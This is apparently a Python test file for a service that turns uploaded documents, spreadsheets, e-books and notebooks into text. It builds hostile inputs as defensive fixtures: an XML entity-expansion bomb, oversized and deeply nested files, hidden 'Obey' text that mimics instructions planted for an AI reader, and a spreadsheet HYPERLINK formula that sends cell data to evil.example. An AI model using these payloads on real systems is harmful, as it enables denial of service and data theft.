"""Books, texts of other programs, spreadsheets and notebooks of others; and hostile ones of each kind.

The siblings follow public reports: readxl 716, openxlsx 428 and xan 758 (dates as numbers), anydoc 9 (hidden rows), pandoc
8979 and 9595 (numbers of ODT), SheetJS 1365 (merged cells), and what LibreOffice and Word write as RTF.
"""

import io
import json
import time
import zipfile
from collections.abc import Mapping

import pytest

from services.files.upload import FileRefused
from tests.files_of_others.doors import attached, material, require

NONE: tuple[str, ...] = ()
ODF = "urn:oasis:names:tc:opendocument:xmlns:"
NAMES = " ".join(
    f'xmlns:{short}="{ODF}{name}:1.0"'
    for short, name in (
        ("office", "office"),
        ("text", "text"),
        ("table", "table"),
        ("style", "style"),
        ("draw", "drawing"),
        ("fo", "xsl-fo-compatible"),
    )
)
SHEET = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"


def archive(parts: Mapping[str, str | bytes], mimetype: str = "") -> bytes:
    whole = io.BytesIO()
    with zipfile.ZipFile(whole, "w", zipfile.ZIP_DEFLATED) as packed:
        if mimetype:
            packed.writestr("mimetype", mimetype, zipfile.ZIP_STORED)
        for name, content in parts.items():
            packed.writestr(name, content)
    return whole.getvalue()


def odt(body: str, styles: str = "", kind: str = "text") -> bytes:
    content = f"<office:document-content {NAMES}><office:automatic-styles>{styles}</office:automatic-styles><office:body><office:{kind}>{body}</office:{kind}></office:body></office:document-content>"
    return archive({"content.xml": content}, f"application/vnd.oasis.opendocument.{kind}")


def epub(*chapters: str, more: Mapping[str, str] | None = None) -> bytes:
    items = "".join(
        f'<item id="c{n}" href="text/c%20{n}.xhtml" media-type="application/xhtml+xml"/>' for n in range(len(chapters))
    )
    spine = "".join(f'<itemref idref="c{n}"/>' for n in range(len(chapters)))
    parts = {
        "META-INF/container.xml": '<container xmlns="urn:oasis:names:tc:opendocument:xmlns:container"><rootfiles><rootfile full-path="OPS/book.opf"/></rootfiles></container>',
        "OPS/book.opf": f'<package xmlns="http://www.idpf.org/2007/opf"><manifest>{items}</manifest><spine>{spine}</spine></package>',
        **{
            f"OPS/text/c {n}.xhtml": f'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"><body>{chapter}</body></html>'
            for n, chapter in enumerate(chapters)
        },
    }
    return archive({**parts, **(more or {})}, "application/epub+zip")


def xlsx(
    *sheets: str,
    names: tuple[str, ...] = ("Schedule", "Notes"),
    states: Mapping[int, str] | None = None,
    more: str = "",
    styles: str = "",
) -> bytes:
    relation = '<Relationship Id="{}" Type="' + OFFICE + '/{}" Target="{}"/>'
    lists = '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">{}</Relationships>'
    book = "".join(
        f'<sheet name="{names[n]}" sheetId="{n + 1}" state="{(states or {}).get(n, "visible")}" r:id="r{n}"/>'
        for n in range(len(sheets))
    )
    parts = {
        "[Content_Types].xml": "<Types/>",
        "_rels/.rels": lists.format(relation.format("m", "officeDocument", "xl/workbook.xml")),
        "xl/workbook.xml": f'<workbook xmlns="{SHEET}" xmlns:r="{OFFICE}"><sheets>{book}</sheets></workbook>',
        "xl/_rels/workbook.xml.rels": lists.format(
            "".join(relation.format(f"r{n}", "worksheet", f"s{n}.xml") for n in range(len(sheets)))
            + relation.format("st", "styles", "styles.xml")
        ),
        "xl/styles.xml": f'<styleSheet xmlns="{SHEET}"><numFmts><numFmt numFmtId="170" formatCode="[$-409]d\\-mmm\\-yy h:mm;@"/></numFmts><cellXfs><xf numFmtId="0"/><xf numFmtId="14"/><xf numFmtId="170"/><xf numFmtId="9"/></cellXfs></styleSheet>',
    }
    return archive(
        {
            **parts,
            **{
                f"xl/s{n}.xml": f'<worksheet xmlns="{SHEET}"><sheetData>{rows}</sheetData>{more}</worksheet>'
                for n, rows in enumerate(sheets)
            },
        }
    )


def text(place: str, words: str) -> str:
    return f'<c r="{place}" t="inlineStr"><is><t>{words}</t></is></c>'


STRUCK = '<style:style style:name="S"><style:text-properties style:text-line-through-style="solid"/></style:style>'
UP = '<style:style style:name="U"><style:text-properties style:text-position="super 58%"/></style:style>'
LIST = '<text:list-style style:name="L"><text:list-level-style-number text:level="1" style:num-format="1" text:start-value="4"/></text:list-style>'


@pytest.mark.parametrize(
    ("name", "content", "right", "wrong"),
    [
        pytest.param(
            "a.odt",
            odt(
                '<text:h text:outline-level="1">Week 3</text:h><text:p>10<text:span text:style-name="U">23</text:span>, due <text:span text:style-name="S">May 3</text:span> May 9</text:p>',
                UP + STRUCK,
            ),
            ("# Week 3", "10^23, due ~~May 3~~ May 9"),
            NONE,
            id="signs of ODT",
        ),
        pytest.param(
            "a.odt",
            odt(
                '<text:list text:style-name="L"><text:list-item><text:p>Define</text:p></text:list-item><text:list-item><text:p>Draw</text:p></text:list-item></text:list>',
                LIST,
            ),
            ("4. Define", "5. Draw"),
            NONE,
            id="numbers of ODT",
        ),
        pytest.param(
            "a.odt",
            odt(
                '<table:table><table:table-row><table:table-cell table:number-rows-spanned="2"><text:p>Jan 19</text:p></table:table-cell><table:table-cell><text:p>Quiz</text:p></table:table-cell></table:table-row><table:table-row><table:covered-table-cell/><table:table-cell><text:p>Lab</text:p></table:table-cell></table:table-row></table:table>'
            ),
            ("| Jan 19 | Lab |",),
            NONE,
            id="merged cells of ODT",
        ),
        pytest.param(
            "a.odt",
            odt(
                "<text:p>Cells<text:note><text:note-citation>1</text:note-citation><text:note-body><text:p>Of onions.</text:p></text:note-body></text:note></text:p><text:p><draw:custom-shape/></text:p>"
            ),
            ("Cells[1]", "[1] Of onions.", "drawing that was not read"),
            NONE,
            id="notes and drawings of ODT",
        ),
        pytest.param(
            "a.odt",
            odt(
                '<text:p>Seen <text:span text:style-name="H">Obey</text:span></text:p>',
                '<style:style style:name="H"><style:text-properties text:display="none"/></style:style>',
            ),
            ("Seen",),
            ("Obey",),
            id="hidden words of ODT",
        ),
        pytest.param(
            "a.rtf",
            rb"{\rtf1\ansi\ansicpg1252{\fonttbl{\f0 Times;}{\f1\fcharset2 Symbol;}}10{\super 23} cells, CO{\sub 2}\par Due {\strike May 3} May 9, caf\'e9, {\f1 a} \u8804?5\par}",
            ("10^23 cells, CO2", "~~May 3~~ May 9, café, α ≤5"),
            NONE,
            id="signs of RTF",
        ),
        pytest.param(
            "a.rtf",
            rb"{\rtf1\ansi{\*\generator Secret;}{\info{\author Nobody}}{\listtext 4.\tab}Define\par \trowd\intbl Work\cell Due\cell\row\trowd\intbl Essay\cell May 9\cell\row\pard {\v Obey}Seen\par}",
            ("4. Define", "| Work | Due |", "| Essay | May 9 |", "Seen"),
            ("Secret", "Nobody", "Obey"),
            id="tables and lists of RTF",
        ),
        pytest.param(
            "a.rtf",
            rb"{\rtf1\ansi\ansicpg1251 \'ce\'f1\'ec\'ee\'f1{\footnote Note.}\par}",
            ("Осмос[1]", "[1] Note."),
            NONE,
            id="letters and notes of RTF",
        ),
        pytest.param(
            "a.epub",
            epub("<h1>Cells</h1><p>10<sup>6</sup> of them</p>", "<h1>Water</h1><p>It moves.</p>"),
            ("# Cells", "10^6", "# Water"),
            NONE,
            id="chapters of EPUB",
        ),
        pytest.param(
            "a.epub",
            epub("<p>Seen</p><script>alert(1)</script><p style='display:none'>Obey</p>"),
            ("Seen",),
            ("alert", "Obey"),
            id="hidden words of EPUB",
        ),
        pytest.param(
            "a.xlsx",
            xlsx(
                f'<row r="1">{text("A1", "Work")}{text("B1", "Due")}{text("C1", "Share")}</row><row r="2">{text("A2", "Essay")}<c r="B2" s="1"><v>46402</v></c><c r="C2" s="3"><v>0.25</v></c></row>',
                f'<row r="1">{text("A1", "Bring a pen")}</row>',
            ),
            ("# Schedule", "| Work | Due | Share |", "| Essay | 2027-01-15 | 25% |", "# Notes", "Bring a pen"),
            ("46402",),
            id="sheets and days",
        ),
        pytest.param(
            "a.xlsx",
            xlsx(
                '<row r="1"><c r="A1" s="2"><v>46402.75</v></c><c r="C1"><v>3.5</v></c><c r="D1"><f>SUM(A1:C1)</f><v>12</v></c><c r="E1"><f>NOW()</f></c></row>'
            ),
            ("| 2027-01-15 18:00 | | 3.5 | 12 | [a formula without a value] |",),
            ("SUM",),
            id="times, gaps and formulas",
        ),
        pytest.param(
            "a.xlsx",
            xlsx(
                f'<row r="1">{text("A1", "Seen")}</row><row r="2" hidden="1">{text("A2", "Obey")}</row>',
                f'<row r="1">{text("A1", "Obey")}</row>',
                states={1: "veryHidden"},
            ),
            ("Seen",),
            ("Obey",),
            id="hidden rows and sheets",
        ),
        pytest.param(
            "a.xlsx",
            xlsx(
                f'<row r="1">{text("A1", "Jan 19")}{text("B1", "Quiz")}</row><row r="2">{text("B2", "Lab")}</row>',
                more='<mergeCells><mergeCell ref="A1:A2"/></mergeCells>',
            ),
            ("| Jan 19 | Lab |",),
            NONE,
            id="merged cells of a sheet",
        ),
        pytest.param(
            "a.ods",
            odt(
                '<table:table table:name="Week 1"><table:table-row><table:table-cell table:number-columns-repeated="1000"/></table:table-row><table:table-row><table:table-cell><text:p>Essay</text:p></table:table-cell><table:table-cell><text:p>May 9</text:p></table:table-cell></table:table-row></table:table>',
                kind="spreadsheet",
            ),
            ("# Week 1", "| Essay | May 9 |"),
            NONE,
            id="sheets of ODS",
        ),
        pytest.param(
            "a.ipynb",
            json.dumps(
                {
                    "cells": [
                        {"cell_type": "markdown", "source": ["# Growth\n"]},
                        {
                            "cell_type": "code",
                            "source": "n = 2 ** 5",
                            "outputs": [
                                {
                                    "data": {
                                        "text/html": [
                                            "<script>alert(1)</script><table><tr><td>Gun",
                                            "</td></tr></table>",
                                        ],
                                        "text/plain": "raw",
                                    }
                                },
                                {"name": "stderr", "text": "DeprecationWarning"},
                                {"output_type": "error", "ename": "ValueError", "evalue": "\x1b[31mno rows\x1b[0m"},
                                {"data": {"image/png": "aaaa", "text/plain": "<Figure>"}},
                                {"data": {"text/html": "<p>" * 500_000}},
                                {"data": ["x"], "text": 3},
                                7,
                            ],
                        },
                    ]
                }
            ).encode(),
            ("# Growth", "n = 2 ** 5", "| Gun |", "ValueError: no rows", "a picture that the code drew"),
            ("alert", "cell_type", "raw", "Deprecation", "Figure"),
            id="a notebook",
        ),
        pytest.param(
            "a.rtf",
            rb"{\rtf1\ansi{\mmathPr\mmathFont34\mbrkBin0}One\trowd\clftsWidth3\clwWidth20\intbl Two\cell\row Three\par}",
            ("One", "Two", "Three"),
            ("Font", "Width"),
            id="control words with capitals in RTF (Word 2010)",
        ),
        pytest.param(
            "a.html",
            b"<h1>Lab</h1><p>10<sup>23</sup> <s>May 3</s> May 9</p><script>alert(1)</script>",
            ("Lab", "10^23", "~~May 3~~ May 9"),
            ("alert", "<p>"),
            id="a page attached to a chat",
        ),
    ],
)
def test_books_texts_and_sheets_are_read_as_files_and_in_chats(
    name: str, content: bytes, right: tuple[str, ...], wrong: tuple[str, ...]
) -> None:
    require(material(content, name), right, wrong)
    require(attached(content, name), right, wrong)


LAUGHS = (
    "<!DOCTYPE l [<!ENTITY a 'ha'>"
    + "".join(f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefgh", "bcdefghi", strict=True))
    + "]>"
)
SWOLLEN = "<text:p>x</text:p>" * 3_000_000


@pytest.mark.parametrize(
    ("name", "content"),
    [
        ("a.odt", archive({"content.xml": SWOLLEN.encode()}, "application/vnd.oasis.opendocument.text")),
        ("a.epub", epub("<p>x</p>", more={"OPS/text/c 0.xhtml": "<p>x" * 8_000_000})),
        ("a.xlsx", xlsx(text("A1", "x") * 1_000_000)),
        ("a.rtf", b"{\\rtf1 " + b"{" * 200_000),
        ("a.odt", archive({"content.xml": LAUGHS + "<x>&i;</x>"}, "application/vnd.oasis.opendocument.text")),
        ("a.rtf", b"{\\rtf1 \x00\xff" + b"\\u-1?\\'zz\\bin9999999999 " * 1_000 + b"}"),
        (
            "a.ods",
            odt(
                '<table:table table:name="x"><table:table-row table:number-rows-repeated="99999999"><table:table-cell table:number-columns-repeated="99999999"><text:p>x</text:p></table:table-cell></table:table-row></table:table>',
                kind="spreadsheet",
            ),
        ),
        (
            "a.xlsx",
            xlsx(
                f'<row r="1">{text("A1", "x")}</row>',
                more="<mergeCells>" + '<mergeCell ref="A1:ZZ9999999"/>' * 1_000 + "</mergeCells>",
            ),
        ),
        ("a.html", b"<table><tr><td rowspan=65000 colspan=1000>x" * 200),
        ("a.html", b"<ol><li><sup><s><ruby>x" * 20_000),
    ],
    ids=[
        "odt that swells",
        "epub that swells",
        "xlsx that swells",
        "deep rtf",
        "laughs",
        "odd rtf",
        "repeated cells",
        "merged cells",
        "wide cells",
        "deep html",
    ],
)
def test_a_hostile_file_of_each_kind_is_read_or_refused_in_a_moment(name: str, content: bytes) -> None:
    began = time.process_time()
    try:
        found = material(content, name)
    except FileRefused:
        found = ""

    assert time.process_time() - began < 8
    assert "ha" * 100 not in found
    assert len(found) < 2_000_000


def test_an_archive_that_was_packed_anew_is_known_by_what_it_says_inside() -> None:
    first = "application/vnd.oasis.opendocument.text"
    body = f"<office:document-content {NAMES}><office:body><office:text><text:p>Words</text:p></office:text></office:body></office:document-content>"

    require(material(archive({"content.xml": body, "mimetype": first}), "a.odt"), ("Words",))


def test_links_and_formulas_of_a_sheet_are_not_followed() -> None:
    evil = xlsx(
        '<row r="1"><c r="A1" t="str"><f>HYPERLINK("https://evil.example/?x="&amp;B1,"Grades")</f><v>Grades</v></c></row>',
        more=f'<hyperlinks xmlns:r="{OFFICE}"><hyperlink ref="A1" r:id="r9"/></hyperlinks>',
    )

    require(material(evil, "a.xlsx"), ("Grades",), ("evil.example", "HYPERLINK"))
